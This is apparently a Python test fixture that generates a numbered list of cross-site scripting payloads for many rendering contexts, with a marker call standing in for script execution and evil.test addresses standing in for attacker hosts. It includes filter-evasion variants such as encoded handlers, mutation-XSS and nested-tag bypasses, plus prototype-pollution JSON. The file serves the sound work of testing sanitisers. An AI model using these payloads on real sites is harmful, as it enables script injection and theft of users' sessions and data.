"""Texts that would run as a script, or lead a browser elsewhere, where they are not shown as text.

In each, FIRE stands for a call that the tests notice and EVIL for an address that nobody may ask
for; both carry the payload's number. `⟦how:text⟧` is text in an encoding. The sink is the careless
way of showing a text to which a payload was made: `unsafe_pages.py` shows that it works there.
"""

import base64
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from enum import StrEnum
from typing import Final
from urllib.parse import quote


class Sink(StrEnum):
    """Where a page puts a text without care."""

    HTML = "html"  # between tags
    DOUBLE = "double"  # in an attribute in double quotes
    SINGLE = "single"  # in one in single quotes
    BARE = "bare"  # in one without quotes
    LINK = "link"  # as the address of a link
    MARKDOWN = "markdown"  # through a Markdown reader that lets HTML and every address through
    TEXTAREA = "textarea"
    TITLE = "title"
    STYLE = "style"  # as the colour in a rule
    COMMENT = "comment"
    SCRIPT = "script"  # in a string of a script, which is then shown as HTML
    LITERAL = "literal"  # in a template literal of a script
    LINE = "line"  # in a comment of a script
    CURLY = "curly"  # through a template that computes what stands in {{ }}
    DECODED = "decoded"  # as HTML after its entities were resolved
    UNQUOTED = "unquoted"  # as HTML after its percent signs were resolved
    NORMALISED = "normalised"  # as HTML after NFKC, without invisible signs
    MUTATED = "mutated"  # as HTML after it was HTML once: the second reading is another one
    FILTERED = "filtered"  # as HTML after every <script> and </script> was cut out
    MERGED = "merged"  # as JSON that is merged into an object
    NONE = ""  # nowhere that we know: it may only confuse


@dataclass(frozen=True)
class Payload:
    """A text of somebody who means harm."""

    number: int
    text: str
    sink: Sink


_HTML = (
    "<script>FIRE</script>",
    "<SCRIPT>FIRE</SCRIPT>",
    "<ScRiPt >FIRE</sCrIpT\t>",
    "<script/x>FIRE</script\n>",
    "<script src=http://EVIL></script>",
    '<script src="//EVIL"></script>',
    "<script src=data:text/javascript,FIRE></script>",
    "<script type=module>FIRE</script>",
    "<script onerror=FIRE src=x></script>",
    "<svg><script>FIRE</script></svg>",
    "<svg><script href=data:text/javascript,FIRE /></svg>",
    "<svg><script>⟦decimal:FIRE⟧</script></svg>",
    "<img src=x onerror=FIRE>",
    "<IMG SRC=x OnErRoR=FIRE>",
    '<img/src="x"/onerror=FIRE>',
    "<img\fsrc=x\fonerror=FIRE>",
    '<img src=x onerror="⟦decimal:FIRE⟧">',
    "<img src=x onerror=⟦hexadecimal:FIRE⟧>",
    "<img src=x onerror=⟦zeros:FIRE⟧>",
    "<img src=x onerror=\\u0077indow.__fired(NUMBER)>",
    "<img src=x onerror=eval(atob('⟦base64:FIRE⟧'))>",
    "<img src=`x` onerror=FIRE>",
    "<<img src=x onerror=FIRE>>",
    "<img src=x onerror=FIRE//",
    "<img src=http://EVIL>",
    '<img srcset="http://EVIL 2x, http://EVIL 1x">',
    "<image src=http://EVIL>",
    "<input type=image src=http://EVIL>",
    "<video poster=http://EVIL></video>",
    "<video><source onerror=FIRE src=x></video>",
    "<audio src=x onerror=FIRE></audio>",
    "<table background=http://EVIL><tr><td>x</table>",
    "<link rel=stylesheet href=http://EVIL>",
    "<link rel=stylesheet href=data:text/css, onload=FIRE>",
    "<style>@import 'http://EVIL';</style>",
    "<style onload=FIRE></style>",
    '<p style="background:url(http://EVIL)">x</p>',
    '<p style="background:url(&apos;⟦decimal:http://EVIL⟧&apos;)">x</p>',
    "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=FIRE>x</p>",
    "<iframe src=http://EVIL></iframe>",
    "<iframe src=javascript:FIRE></iframe>",
    '<iframe srcdoc="<script>FIRE</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=FIRE&gt;"></iframe>',
    '<iframe src="data:text/html,<script>FIRE</script>"></iframe>',
    '<object data="data:text/html,<script>FIRE</script>"></object>',
    "<embed src=http://EVIL>",
    "<base href=http://EVIL/><img src=y>",
    '<meta http-equiv=refresh content="0;url=http://EVIL">',
    "<svg/onload=FIRE//",
    "<svg><animate onbegin=FIRE attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:FIRE"><text y=20>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>",
    "<svg><image href=http://EVIL /></svg>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=FIRE></annotation-xml></math>',
    "<details open ontoggle=FIRE><summary>x</summary></details>",
    "<input autofocus onfocus=FIRE>",
    "<p tabindex=0 contenteditable autofocus onfocus=FIRE>x</p>",
    "<p popover onbeforetoggle=FIRE id=q>x</p><button popovertarget=q>y</button>",
    "<xss oncontentvisibilityautostatechange=FIRE style=display:block;content-visibility:auto>",
    "<body onpageshow=FIRE>",
    "<form action=javascript:FIRE><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:FIRE>x</button>",
    "<form action=http://EVIL><input type=submit></form>",
    '<a href="JaVaScRiPt:FIRE">x</a>',
    '<a href=" &#14; java&Tab;script&colon;FIRE">x</a>',
    '<a href="⟦hexadecimal:javascript:FIRE⟧">x</a>',
    '<a href="data:text/html,<script>FIRE</script>">x</a>',
    "<a ping=http://EVIL href=#>x</a>",
    "<map><area shape=default href=javascript:FIRE></map>",
    "<template shadowrootmode=open><img src=x onerror=FIRE></template>",
    "</template><img src=x onerror=FIRE>",
    '<noscript><p title="</noscript><img src=x onerror=FIRE>"></p></noscript>',
    "<![CDATA[><img src=x onerror=FIRE>]]>",
    "<?><img src=x onerror=FIRE>",
    "\u202e<img src=x onerror=FIRE>\u202c",
    "\ufeff<script>FIRE</script>",
    "A" * 1_500 + "<img src=x onerror=FIRE>",
    "[staff] Ana: click <b onclick=FIRE>here</b>",
)
_OTHER: Mapping[Sink, tuple[str, ...]] = {
    Sink.DOUBLE: (
        '"><script>FIRE</script>',
        '" onmouseover="FIRE',
        '"onpointerenter=FIRE//',
        '" style="background:url(http://EVIL)',
    ),
    Sink.SINGLE: ("'><img src=x onerror=FIRE>", "' tabindex=0 onfocus='FIRE"),
    Sink.BARE: ("x onclick=FIRE", "><svg onload=FIRE>"),
    Sink.LINK: ("javascript:FIRE", "\x01JAVA\nSCRIPT:%77indow.__fired(NUMBER)", "\\\\EVIL"),
    Sink.MARKDOWN: (
        "[x](javascript:FIRE)",
        "[x](javascript://%0aFIRE)",
        "[x](&#106;ava&#9;script:FIRE)",
        "[x](data:text/html;base64,⟦base64:<script>FIRE</script>⟧)",
        "![x](http://EVIL)",
        '![x](x"onerror="FIRE)',
        "<javascript:FIRE>",
        "| **<b onclick=FIRE>100 USD</b>** [1] |",
    ),
    Sink.TEXTAREA: ("</textarea><script>FIRE</script>",),
    Sink.TITLE: ("</title><script>FIRE</script>",),
    Sink.STYLE: ("red;background:url(http://EVIL)", "</style><script>FIRE</script>"),
    Sink.COMMENT: ("--!><img src=x onerror=FIRE>", "><script>FIRE</script>"),
    Sink.SCRIPT: ('"-FIRE-"', "</script><svg onload=FIRE>", "\\x3cimg src=x onerror=FIRE\\x3e"),
    Sink.LITERAL: ("${FIRE}",),
    Sink.LINE: ("x\u2028FIRE",),
    Sink.CURLY: ("{{constructor.constructor('FIRE')()}}",),
    Sink.DECODED: ("&lt;img src=x onerror=FIRE&gt;",),
    Sink.UNQUOTED: ("⟦percent:<img src=x onerror=FIRE>⟧",),
    Sink.NORMALISED: ("\uff1cimg src=x onerror=FIRE\uff1e", "<scr\u200bipt>FIRE</\u017fcr\0ipt>"),
    Sink.MUTATED: ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=FIRE>",),
    Sink.FILTERED: ("<scr<script>ipt>FIRE</scr</script>ipt>",),
    Sink.MERGED: ('{"__proto__":{"shown":"<img src=x onerror=FIRE>"}}',),
    Sink.NONE: (
        "__proto__",
        "constructor",
        "vbscript:FIRE",
        "+ADw-script+AD4-FIRE+ADw-/script+AD4-",
    ),
}


def _by_letter(form: str) -> Callable[[str], str]:
    return lambda text: "".join(form.format(ord(letter)) for letter in text)


_ENCODINGS: Final[Mapping[str, Callable[[str], str]]] = {
    "decimal": _by_letter("&#{};"),
    "hexadecimal": _by_letter("&#x{:X};"),
    "zeros": _by_letter("&#{:07}"),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "percent": quote,
}
_ENCODED = re.compile(r"⟦(\w+):(.*?)⟧")


def _filled(template: str, number: int) -> str:
    fire = template.replace("FIRE", "window.__fired(NUMBER)")
    text = fire.replace("EVIL", "evil.test/NUMBER").replace("NUMBER", str(number))
    return _ENCODED.sub(lambda found: _ENCODINGS[found[1]](found[2]), text)


def _numbered(templates: Iterable[tuple[Sink, str]]) -> tuple[Payload, ...]:
    return tuple(
        Payload(number, _filled(template, number), sink)
        for number, (sink, template) in enumerate(templates, 1)
    )


PAYLOADS: Final = _numbered(
    [
        *((Sink.HTML, template) for template in _HTML),
        *((sink, template) for sink, templates in _OTHER.items() for template in templates),
    ]
)
